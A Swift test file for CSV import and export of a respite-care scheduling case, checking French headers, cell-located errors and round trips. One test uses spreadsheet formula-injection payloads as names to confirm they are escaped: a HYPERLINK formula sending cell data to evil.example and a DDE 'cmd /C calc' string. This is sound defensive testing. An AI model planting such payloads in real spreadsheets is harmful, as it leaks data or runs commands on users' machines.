import Foundation
import ReliefTestSupport
import Testing

@testable import ReliefCore

/// Cases read from the spreadsheet files of the contract's csv.md: the same case
/// a JSON file gives, the same errors located at their cells, and round trips.
@Suite("CSV case import and export")
struct CSVCaseTests {
    static let root = PackageTree.root

    /// Files as a French-locale spreadsheet saves them: BOM, `;`, CRLF.
    static func spreadsheet(_ files: [String: [String]]) -> [String: Data] {
        files.mapValues { Data(("\u{FEFF}" + $0.joined(separator: "\r\n") + "\r\n").utf8) }
    }

    /// `Fixtures/small-case.json` as a coordinator would type it: French headers and
    /// words, weekdays, `24:00`, a one-digit hour, a travel matrix, an extra column
    /// holding a quoted note over two lines, accents in names.
    static let smallCase: [String: [String]] = [
        "settings.csv": [
            "Clé;Valeur", "nom;small valid case", "Fuseau horaire;America/Toronto",
            "horizonStart;2026-11-23 00:00", "horizonEnd;2026-11-25 00:00", "requiredCredentials;first-aid",
            "maxMinutesPerDay;720", "maxMinutesPerWeek;3000",
        ],
        "territories.csv": ["id;Nom", "saint-roch;Saint-Roch", "limoilou;Limoilou", "vieux-quebec;Vieux-Québec"],
        "travel.csv": [
            "trajet;saint-roch;limoilou;vieux-quebec", "saint-roch;;12;10", "limoilou;12;;14", "vieux-quebec;10;14;",
        ],
        "sitters.csv": [
            "id;Nom;Territoire domicile;Territoires;Compétences;Stagiaire;maxMinutesJour;maxMinutesSemaine;"
                + "cibleMinutesSemaine;Garde;maxGardes;competencesGarde;Notes",
            "S1;Marie Tremblay;saint-roch;saint-roch, limoilou;autism|infant;non;;;600;;;;\"Préfère les soirs\r\n"
                + "appeler avant; \"\"merci\"\"\"",
            "S2;Luc Gagnon;limoilou;limoilou,vieux-quebec;infant;;;;;;;;",
            "S3;Ana Roy;saint-roch;;autism;oui;;;;;;;",
            "S4;Noor Haddad;vieux-quebec;;;;;;;oui;4;crisis-support;",
        ],
        "credentials.csv": [
            "intervenant;type;Valide jusqu'au", "S1;first-aid;2027-03-01", "S1;gtube;", "S2;first-aid;",
            "S3;first-aid;", "S4;first-aid;2030-01-01",
        ],
        "availability.csv": [
            "Intervenant;Jour;De;À", "S1;lundi;08:00;22:00", "S1;Mardi;8:00;22:00", "S2;2026-11-23;08:00;22:00",
            "S2;2026-11-24;08:00;22:00", "S3;2026-11-23;08:00;00:00", "S3;2026-11-24;00:00;22:00",
            "S4;2026-11-23;00:00;24:00", "# the next day whole:;;;", "S4;2026-11-24;00:00;00:00",
        ],
        "families.csv": [
            "id;nom;territoire;intervenantsPréférés;intervenantsExclus;intervenantsPrécédents",
            "F1;Famille Gagnon;saint-roch;S1;;", "F2;Famille Bouchard;limoilou;;S3;",
            "F3;Famille Côté;vieux-quebec;;;S2",
        ],
        "visits.csv": [
            "id;famille;début;fin;intervenants;compétences;certifications;priorité;assignés;verrouillé",
            "V1;F1;2026-11-23 18:00;2026-11-23 22:00;;autism;;urgente;S1;",
            "V2;F2;2026-11-23T09:00;2026-11-23T12:00;2;;;Haute;;non",
            "V3;F3;2026-11-24 13:00;2026-11-24 17:00;1;infant;;;;",
            "V4;F1;2026-11-24 09:00;2026-11-24 11:00;;;;normale;S1;x",
        ],
        "oncall.csv": [
            "id;début;fin;personnel;compétences", "OC-2026-11-23;2026-11-23 00:00;2026-11-24 00:00;;crisis-support",
            "OC-2026-11-24;2026-11-24 00:00;2026-11-25 00:00;1;crisis-support",
        ],
    ]

    static func jsonCase() throws -> Case {
        try CaseReader.read(data: CaseFixture.data("small-case.json"), file: "small-case.json").0
    }

    static func text(_ c: Case) -> String { CaseWriter.json(c).serialized() }

    @Test func aSpreadsheetImportsToTheCaseTheJSONFileGives() throws {
        let (c, diagnostics) = CSVCaseReader.read(Self.spreadsheet(Self.smallCase))
        let imported = try #require(c, "\(diagnostics)")
        #expect(Self.text(imported) == Self.text(try Self.jsonCase()))
        #expect(imported.territories[2].name == "Vieux-Québec")
        // The only remark: the Notes column, which the contract does not know.
        #expect(
            diagnostics.map(\.description) == [
                "warning: sitters.csv:1:13 (Notes): unknown column, ignored\n  fix: "
                    + "remove it or check its spelling (known: id, name, homeTerritory, territories, competencies, trainee, "
                    + "maxMinutesPerDay, maxMinutesPerWeek, targetMinutesPerWeek, onCall, maxShifts, onCallCompetencies, kind, "
                    + "or their French names)"
            ])
    }

    @Test func badCellsAreAllReportedAtTheirCells() throws {
        var files = Self.smallCase
        files["visits.csv"]![2] = "V2;F2;2026-11-23T09:00;2026-11-23T12:00;deux;;;Haute;;non"
        files["visits.csv"]![3] = "V3;F3;2026-11-24 13:00;demain;1;infant;;peut-être;;"
        // S3's row is short a few cells: left out, and the rows naming S3 are not called unknown.
        files["sitters.csv"]![3] = "S3;Ana Roy;saint-roch"
        files["credentials.csv"]![1] = "S1;first-aid;2027-02-30"
        files["availability.csv"]![1] = "S9;lundi;08:00;22:00"
        let (c, ds) = CSVCaseReader.read(Self.spreadsheet(files))
        #expect(c == nil)
        let errors = ds.filter { $0.severity == .error }.map { "\($0.location): \($0.message)" }
        #expect(
            errors == [
                "sitters.csv:5:4: row has 3 cells, the header has 13",
                "credentials.csv:2:3 (Valide jusqu'au): \"2027-02-30\" is not a date",
                "availability.csv:2:1 (Intervenant): unknown sitter \"S9\"",
                "visits.csv:3:5 (intervenants): \"deux\" is not a whole number",
                "visits.csv:4:4 (fin): \"demain\" is not a date and time",
                "visits.csv:4:8 (priorité): unknown priority \"peut-être\"",
            ], "\(ds)")
    }

    /// The validator's errors, located in the spreadsheet: same message and fix as for the JSON case.
    @Test func semanticErrorsAreTheValidatorsLocatedAtTheirCell() throws {
        var files = Self.smallCase
        files["visits.csv"]![2] = "V2;F9;2026-11-23T09:00;2026-11-23T08:00;2;;;Haute;;non"
        files["visits.csv"]![4] = "V4;F1;2026-11-24 09:00;2026-11-24 11:00;;;;normale;S1,S7;x"
        let (c, ds) = CSVCaseReader.read(Self.spreadsheet(files))
        #expect(c == nil)

        var j = try Self.jsonCase()
        j.visits[1].family = "F9"
        j.visits[1].span.end = j.visits[1].span.start.adding(minutes: -60)
        j.visits[3].assigned = ["S1", "S7"]
        let json = CaseValidator.check(j).filter { $0.severity == .error }
        #expect(
            json.map(\.path) == [
                "$.visits[1].family", "$.visits[1].end", "$.visits[3].assigned[1]", "$.visits[3].assigned",
            ])
        let csv = ds.filter { $0.severity == .error }
        #expect(csv.map(\.message) == json.map(\.message))
        #expect(csv.map(\.fix) == json.map(\.fix))
        #expect(
            csv.map(\.location.description) == [
                "visits.csv:3:2 (famille)", "visits.csv:3:4 (fin)", "visits.csv:5:9 (assignés)",
                "visits.csv:5:9 (assignés)",
            ])
    }

    @Test func aDuplicateIdNamesTheFirstRow() throws {
        var files = Self.smallCase
        files["families.csv"]!.append("F1;Famille Côté;vieux-quebec;;;S2")
        let (_, ds) = CSVCaseReader.read(Self.spreadsheet(files))
        #expect(
            ds.filter { $0.severity == .error }.map { "\($0.location): \($0.message)" } == [
                "families.csv:5:1 (id): duplicate family id F1 (first at families.csv:2:1 (id))"
            ], "\(ds)")
    }

    @Test func aSmallCaseRoundTrips() throws {
        let c = try Self.jsonCase()
        for style in [CSV.Style.spreadsheet, CSV.Style(delimiter: ",", byteOrderMark: false, lineEnd: "\n")] {
            let files = try CSVCaseWriter.files(c, style: style)
            let data = Dictionary(uniqueKeysWithValues: files.map { ($0.name, Data($0.text.utf8)) })
            let (back, ds) = CSVCaseReader.read(data)
            let b = try #require(back, "\(ds)")
            #expect(Self.text(b) == Self.text(c))
            #expect(ds.isEmpty, "\(ds)")
            #expect(try CSVCaseWriter.files(b, style: style).map(\.text) == files.map(\.text))
        }
        // The hand-typed spreadsheet, exported, reads back to the same case.
        let typed = try #require(CSVCaseReader.read(Self.spreadsheet(Self.smallCase)).theCase)
        let written = try CSVCaseWriter.files(typed)
        let again = CSVCaseReader.read(Dictionary(uniqueKeysWithValues: written.map { ($0.name, Data($0.text.utf8)) }))
        #expect(Self.text(try #require(again.theCase)) == Self.text(c))
    }

    /// Availability across midnight, over several days, and on a fall-back night.
    @Test func availabilityAcrossNightsAndClockChangesRoundTrips() throws {
        var c = try Self.jsonCase()
        let clock = c.clock
        func t(_ s: String) throws -> Instant { try clock.parse(s).get() }
        c.horizon = TimeSpan(start: try t("2026-10-31T00:00"), end: try t("2026-11-03T00:00"))
        c.visits = []
        c.onCallShifts = []
        c.sitters[0].availability = [
            TimeSpan(start: try t("2026-10-31T22:00"), end: try t("2026-11-01T06:00")),
            TimeSpan(start: try t("2026-11-01T20:00"), end: try t("2026-11-03T00:00")),
        ]
        // 01:30 after the clocks fell back is not the first 01:30: it keeps its offset.
        c.sitters[1].availability = [TimeSpan(start: try t("2026-11-01T01:30-05:00"), end: try t("2026-11-01T04:00"))]
        let files = try CSVCaseWriter.files(c)
        let availability = try #require(files.first { $0.name == "availability.csv" }).text
        #expect(availability.contains("S1;2026-10-31;22:00;06:00\r\n"), "\(availability)")
        #expect(availability.contains("S2;2026-11-01;01:30-05:00;04:00\r\n"), "\(availability)")
        let (back, ds) = CSVCaseReader.read(
            Dictionary(uniqueKeysWithValues: files.map { ($0.name, Data($0.text.utf8)) }))
        #expect(Self.text(try #require(back, "\(ds)")) == Self.text(c))
    }

    @Test func theBundledWeekTemplatesImportToTheBundledWeek() throws {
        let dir = Self.root.appendingPathComponent("Data/quebec-city-week-csv")
        var data: [String: Data] = [:]
        for name in CSVCaseReader.files { data[name] = try Data(contentsOf: dir.appendingPathComponent(name)) }
        let (c, ds) = CSVCaseReader.read(data)
        let imported = try #require(c, "\(ds.filter { $0.severity == .error })")
        let path = Self.root.appendingPathComponent("Data/quebec-city-week.json").path
        let (week, warnings) = try CaseReader.read(data: Data(contentsOf: URL(fileURLWithPath: path)), file: path)
        #expect(Self.text(imported) == Self.text(week))
        #expect(ds.count == warnings.count)
        // And writing it again with English headers gives the templates byte for byte.
        for f in try CSVCaseWriter.files(imported, headers: .english) {
            #expect(Data(f.text.utf8) == data[f.name], "\(f.name)")
        }
    }

    /// Names a spreadsheet would run as formulas: written with a leading `'`, read back as they were.
    @Test func formulaLikeValuesAreWrittenAsTextAndReadBack() throws {
        var c = try Self.jsonCase()
        c.name = "=1+1"
        c.sitters[0].name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
        c.sitters[1].name = "+cmd|' /C calc'!A0"
        c.sitters[2].name = "@SUM(1+1)"
        c.sitters[3].name = "\t=1+1"
        c.families[0].name = "-2+3"
        c.families[1].name = "'=already quoted"
        c.territories[0].name = "'tit Jean"
        // A list cell whose first item starts with `-`.
        c.sitters[0].competencies.insert("-night")
        c.visits[0].competencies.insert("-night")
        for style in [CSV.Style.spreadsheet, CSV.Style(delimiter: ",", byteOrderMark: false, lineEnd: "\n")] {
            let files = try CSVCaseWriter.files(c, style: style)
            for f in files {
                for row in try CSV.parse(Data(f.text.utf8)).rows {
                    for cell in row.cells {
                        let first = cell.text.unicodeScalars.first
                        #expect(
                            first.map { !"=+-@\t\r".unicodeScalars.contains($0) } ?? true,
                            "\(f.name):\(cell.line):\(cell.column) \(cell.text.debugDescription)")
                    }
                }
            }
            let sitters = try #require(files.first { $0.name == "sitters.csv" }).text
            #expect(sitters.contains("'@SUM(1+1)"), "\(sitters)")
            #expect(sitters.contains("'-night,autism"), "\(sitters)")
            let families = try #require(files.first { $0.name == "families.csv" }).text
            #expect(families.contains("''=already quoted"), "\(families)")
            #expect(try #require(files.first { $0.name == "territories.csv" }).text.contains("'tit Jean"))
            let (back, ds) = CSVCaseReader.read(
                Dictionary(uniqueKeysWithValues: files.map { ($0.name, Data($0.text.utf8)) }))
            let b = try #require(back, "\(ds)")
            #expect(Self.text(b) == Self.text(c))
            #expect(b.sitters[1].name == "+cmd|' /C calc'!A0")
            #expect(b.families[1].name == "'=already quoted")
            #expect(b.territories[0].name == "'tit Jean")
        }
    }

    @Test func formulaSafeAndUnescapedAreInverses() {
        for v in ["", "a", "=a", "'=a", "''+a", "'a", "'", "-", "\t", "\r\nx", "@", "x=1", "é=", "'é"] {
            #expect(CSV.formulaUnescaped(CSV.formulaSafe(v)) == v, "\(v.debugDescription)")
            let first = CSV.formulaSafe(v).unicodeScalars.first
            #expect(first.map { !"=+-@\t\r\n".unicodeScalars.contains($0) } ?? true, "\(v.debugDescription)")
        }
        // A cell a person typed with an apostrophe before a word keeps it.
        #expect(CSV.formulaUnescaped("'tit Jean") == "'tit Jean")
        #expect(CSV.formulaUnescaped("'-5") == "-5")
    }

    /// Every French word export-csv writes is one import-csv reads as the same column or key.
    @Test func theFrenchHeadersAreTheReadersAliases() {
        for (file, columns) in CSVCaseReader.columns {
            for column in columns {
                let french = CSVCaseWriter.frenchHeaders[column.key] ?? column.key
                let names = ([column.key] + column.aliases).map(CSVCaseReader.normalized)
                #expect(names.contains(CSVCaseReader.normalized(french)), "\(file) \(column.key) -> \(french)")
            }
        }
        for (key, aliases) in CSVCaseReader.settingKeys {
            let french = CSVCaseReader.normalized(CSVCaseWriter.frenchSettingKeys[key] ?? "")
            #expect(([key] + aliases).map(CSVCaseReader.normalized).contains(french), "\(key)")
        }
    }

    /// French by default, English on request; both read back to the same case, on-call
    /// assignments and family contacts included.
    @Test func frenchAndEnglishFilesReadBackWithPublishedShiftsAndContacts() throws {
        var c = try Self.jsonCase()
        c.onCallShifts[0].assigned = [c.sitters[0].id]
        c.families[0].address = "12 rue des Érables; app. 3"
        c.families[0].phone = "418 555-0199"
        c.visits[0].priority = .urgent
        for headers in [CSVCaseWriter.Headers.french, .english] {
            let files = try CSVCaseWriter.files(c, headers: headers)
            let text = Dictionary(uniqueKeysWithValues: files.map { ($0.name, $0.text) })
            let french = headers == .french
            #expect(
                text["oncall.csv"]!.hasPrefix(
                    french
                        ? "\u{FEFF}id;début;fin;personnel;compétences;assignés\r\n"
                        : "\u{FEFF}id;start;end;staff;competencies;assigned\r\n"))
            #expect(text["families.csv"]!.contains(french ? ";adresse;téléphone\r\n" : ";address;phone\r\n"))
            #expect(text["visits.csv"]!.contains(french ? ";urgente;" : ";urgent;"))
            #expect(text["settings.csv"]!.contains(french ? "fuseauHoraire;America/" : "timeZone;America/"))
            let (back, ds) = CSVCaseReader.read(files.reduce(into: [:]) { $0[$1.name] = Data($1.text.utf8) })
            #expect(Self.text(try #require(back, "\(ds)")) == Self.text(c))
        }
        // A case without them writes no such column (the files of before).
        c.onCallShifts[0].assigned = []
        c.families[0].address = nil
        c.families[0].phone = nil
        let files = try CSVCaseWriter.files(c)
        #expect(!files.contains { $0.text.contains("assignés\r\n") || $0.text.contains("adresse") })
    }

    @Test func aListItemASpreadsheetCannotHoldIsRefused() throws {
        var c = try Self.jsonCase()
        c.visits[0].competencies = ["sign, language"]
        #expect(throws: CSVCaseWriter.Unwritable.self) { try CSVCaseWriter.files(c) }
    }
}
